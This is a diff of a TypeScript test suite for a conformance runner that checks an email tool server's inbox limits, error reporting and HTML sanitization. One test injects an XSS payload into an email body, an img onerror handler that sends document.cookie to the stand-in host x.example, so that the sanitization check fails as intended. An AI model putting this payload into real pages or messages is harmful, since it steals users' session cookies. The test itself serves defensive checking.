@@ -73,8 +73,12 @@ describe("against the reference server", () => {
     const run = await runRunner([...baseArgs(), "--runs", "20", ...sendArgs()]);
     expect(run.failedIds).toEqual([]);
     expect(run.exitCode).toBe(0);
-    // Only the --slow check lacks what it needs.
-    expect(run.json?.checks.filter((c) => c.status === "skipped").map((c) => c.id)).toEqual(["behaviour.rate-limit"]);
+    // Only the --slow check lacks what it needs, and the default limit, which needs more messages
+    // than the seeded 19 and may not send them: --send-to delivers to the sibling inbox.
+    expect(run.json?.checks.filter((c) => c.status === "skipped").map((c) => c.id)).toEqual([
+      "behaviour.default-limit",
+      "behaviour.rate-limit",
+    ]);
     for (const id of [
       "behaviour.send.appears-in-sent",
       "behaviour.send.recipient-reads",
@@ -95,6 +99,15 @@ describe("against the reference server", () => {
     expect(run.stdout).toMatch(/^PASS: \d+ passed, 0 failed, \d+ skipped of \d+ checks/m);
     expect(run.junit).toContain('<testsuite name="protocol"');
     expect(run.junit).toMatch(/failures="0"/);
+  });
+
+  it("sees the default limit once it may send to the inbox itself: it sends the two messages the seeded 19 lack", async () => {
+    const run = await runRunner([
+      ...baseArgs(),
+      ...["--allow-send", "--send-to", server.inbox.addresses[0] ?? "", "--send-to-inbox", server.inbox.id],
+      ...["--only", "behaviour.default-limit"],
+    ]);
+    expect(run.check("behaviour.default-limit")).toMatchObject({ status: "passed", details: "20 of 21" });
   });
 
   it("reports checks that lack a key or permission to send as skipped, with the reason, and says most were skipped", async () => {
@@ -412,6 +425,54 @@ describe("against a server broken in one place, it fails the checks for that rul
     expect(run.failedIds).toEqual(["behaviour.send.idempotent-replay", "behaviour.send.idempotency-key-reused"]);
     expect(run.check("behaviour.send.idempotent-replay")?.details?.message).toBe(
       "the repeated call has idempotent_replay false: it was sent again",
+    );
+  });
+
+  it("an execution error result without isError: true", async () => {
+    const run = await runBroken((exchange) => {
+      const result = toolResultOf(exchange);
+      if (typeof result?.errorCode !== "string") return undefined;
+      delete result.isError;
+      return exchange;
+    });
+    expect(run.exitCode).toBe(1);
+    expect(run.failedIds).toContain("errors.catalogue");
+    expect(run.check("errors.catalogue")?.details?.message).toContain("isError is not true");
+  });
+
+  it("body_html that keeps an event handler", async () => {
+    const run = await runBroken(
+      (exchange) => {
+        const content = toolResultOf(exchange)?.structuredContent as Record<string, unknown> | undefined;
+        if (!isToolCall(exchange, "read_email") || typeof content?.body_html !== "string") return undefined;
+        content.body_html = `${content.body_html}<img src="cid:logo" onerror="fetch('https://x.example/'+document.cookie)">`;
+        return exchange;
+      },
+      undefined,
+      { extraArgs: [...sendArgs(), "--only", "behaviour.html-sanitized"] },
+    );
+    expect(run.failedIds).toEqual(["behaviour.html-sanitized"]);
+    expect(run.check("behaviour.html-sanitized")?.details?.message).toContain("an event handler onerror on <img>");
+  });
+
+  it("a default limit of 19 on an inbox of 19: the runner sends itself two more and sees it", async () => {
+    const ownInbox = ["--allow-send", "--send-to", server.inbox.addresses[0] ?? "", "--send-to-inbox", server.inbox.id];
+    const run = await runBroken(
+      (exchange) => {
+        const content = toolResultOf(exchange)?.structuredContent as { messages?: unknown[] } | undefined;
+        const args = argumentsOf(exchange.request);
+        if (!isToolCall(exchange, "list_inbox") || args?.limit !== undefined || content?.messages === undefined)
+          return undefined;
+        content.messages = content.messages.slice(0, 19);
+        (content as Record<string, unknown>).next_offset = 19;
+        return exchange;
+      },
+      undefined,
+      { extraArgs: [...ownInbox, "--only", "behaviour.default-limit"] },
+    );
+    expect(run.failedIds).toEqual(["behaviour.default-limit"]);
+    expect(run.check("behaviour.default-limit")?.details?.message).toBe(
+      "without limit, list_inbox returned 19 of the 21 messages in INBOX; the default is 20",
     );
   });
 
